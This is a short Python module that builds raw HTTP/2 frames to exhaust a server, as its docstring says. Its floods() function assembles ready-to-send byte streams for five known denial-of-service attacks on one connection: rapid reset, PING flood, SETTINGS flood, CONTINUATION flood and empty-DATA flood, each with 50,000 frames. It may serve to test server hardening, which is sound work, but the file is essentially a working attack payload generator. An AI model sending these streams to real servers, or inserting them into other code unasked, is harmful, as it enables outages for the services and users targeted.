"""Frames of HTTP/2 (RFC 9113), as a client sends them that wants to harm a server."""

from __future__ import annotations

HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION, DATA = 1, 3, 4, 6, 9, 0
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Of one connection: more than a server takes.
FRAMES = 50_000


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def begin() -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0, b"")


def head(method: int, path: str) -> bytes:
    """Indexed method (RFC 7541, appendix A: 2 is GET, 3 POST), scheme http, and literal path and authority."""
    return bytes([0x80 | method, 0x86, 0x04, len(path)]) + path.encode() + b"\x01\x01a"


def get(stream: int, path: str) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, head(2, path))


def floods() -> dict[str, bytes]:
    """What one connection sends, by the kind of its frames."""
    resets = (get(stream, "/healthz") + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big")) for stream in range(1, 2 * FRAMES, 2))
    continuation = frame(CONTINUATION, 0, 1, b"\x00\x03x-y\x7f" + b"a" * 127)
    return {
        "rapid reset": begin() + b"".join(resets),
        "ping": begin() + frame(PING, 0, 0, bytes(8)) * FRAMES,
        "settings": begin() + frame(SETTINGS, 0, 0, b"\x00\x04\x00\x01\x00\x00") * FRAMES,
        "continuation": begin() + frame(HEADERS, END_STREAM, 1, head(2, "/healthz")) + continuation * FRAMES,
        "empty data": begin() + frame(HEADERS, END_HEADERS, 1, head(3, "/v1/files")) + frame(DATA, 0, 1, b"") * FRAMES,
    }
